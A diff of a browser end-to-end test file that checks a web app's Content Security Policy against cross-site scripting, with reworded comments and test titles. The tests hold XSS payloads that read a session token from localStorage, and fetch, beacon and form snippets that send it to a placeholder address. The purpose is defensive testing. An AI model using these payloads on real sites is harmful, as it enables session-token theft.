@@ -9,14 +9,14 @@ import { enter, signInByCall } from './sign-in.ts'
 import { newStaffMember, type StaffMember } from './staff.ts'
 import { textsIn } from './texts.ts'
 
-/** What a script that runs leaves behind: the token that it has reached. */
+/** Trace of an executed script: the token that it reached. */
 const planted = (page: Page) => page.evaluate<unknown>('globalThis.planted')
 const WORDS = `Planted<img src=x onerror="globalThis.planted=localStorage.token"><script>globalThis.planted=localStorage.token</script>`
 
-/** A place of the list of universities that no other journey takes. */
+/** A university of the list that no other journey uses. */
 const PLACE = 31
 
-test('a script in every free text is words to whoever reads it', async ({ browser, baseURL }) => {
+test('a script in every free text is plain text for its readers', async ({ browser, baseURL }) => {
   const { universityId, head, applicationIds, applicants } = await makeOffice(baseURL, PLACE, 10)
   const [id = ''] = applicationIds
   const root = await staffCalls(baseURL, SUPER_ADMIN)
@@ -62,7 +62,7 @@ test('a script in every free text is words to whoever reads it', async ({ browse
   expect(applicants.length).toBeGreaterThan(0)
 })
 
-/** What somebody could try who has got a text of theirs into a page as code of ours would put it there. */
+/** Attempts of an attacker whose text became code in a page. */
 const ATTEMPTS: Readonly<Record<string, string>> = {
   'markup with a handler': `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="globalThis.planted=localStorage.token">')`,
   'markup through a property': `const box = document.createElement('div'); document.body.append(box); box.innerHTML = '<img src="data:," onerror="globalThis.planted=localStorage.token">'`,
@@ -79,7 +79,7 @@ const ATTEMPTS: Readonly<Record<string, string>> = {
   'a link with a script': `const link = document.createElement('a'); link.href = 'javascript:globalThis.planted=localStorage.token;void 0'; document.body.append(link); link.click()`,
 }
 
-/** Somebody signed in, before a page that reports nothing as a fault of its own. */
+/** A signed-in page whose own errors do not fail the test. */
 async function signedIn(browser: Browser, person: StaffMember, bypassCSP: boolean): Promise<Page> {
   const page = await (await browser.newContext({ bypassCSP })).newPage()
   await signInByCall({ page, t: textsIn('en'), language: 'en' }, 'STAFF', person)
@@ -88,16 +88,13 @@ async function signedIn(browser: Browser, person: StaffMember, bypassCSP: boolea
   return page
 }
 
-/** Tries it as the page's own code would; an evaluation itself may do more than a page. */
+/** Runs the code as the page's own would: an evaluation itself has more rights than a page. */
 async function attempt(page: Page, code: string): Promise<void> {
   await page.evaluate<undefined>(`void setTimeout(() => { try { ${code} } catch {} })`)
   await page.waitForTimeout(150)
 }
 
-test('a script that has got into a page neither runs nor reaches the token; without the policy it would', async ({
-  browser,
-  baseURL,
-}) => {
+test('only the policy keeps a script in a page from running and reaching the token', async ({ browser, baseURL }) => {
   const root = await staffCalls(baseURL, SUPER_ADMIN)
   const person = newStaffMember('Attacked')
   await root.post('/staff', { ...person, roles: [{ name: 'MANAGER' }] })
@@ -119,7 +116,7 @@ test('a script that has got into a page neither runs nor reaches the token; with
   await open.context().close()
 })
 
-/** What carries a token away, to an address that is filled in. */
+/** Ways to send the token to an address, which is filled in. */
 const WAYS_OUT: Readonly<Record<string, string>> = {
   fetch: `fetch('ELSEWHERE?' + localStorage.token)`,
   beacon: `navigator.sendBeacon('ELSEWHERE', localStorage.token)`,
@@ -128,7 +125,7 @@ const WAYS_OUT: Readonly<Record<string, string>> = {
   form: `const form = document.createElement('form'); form.action = 'ELSEWHERE'; form.method = 'post'; document.body.append(form); form.submit()`,
 }
 
-test('nothing of the token leaves for elsewhere; without the policy it would', async ({ browser, baseURL }) => {
+test('only the policy keeps the token from being sent elsewhere', async ({ browser, baseURL }) => {
   const root = await staffCalls(baseURL, SUPER_ADMIN)
   const person = newStaffMember('Attacked')
   await root.post('/staff', { ...person, roles: [{ name: 'MANAGER' }] })
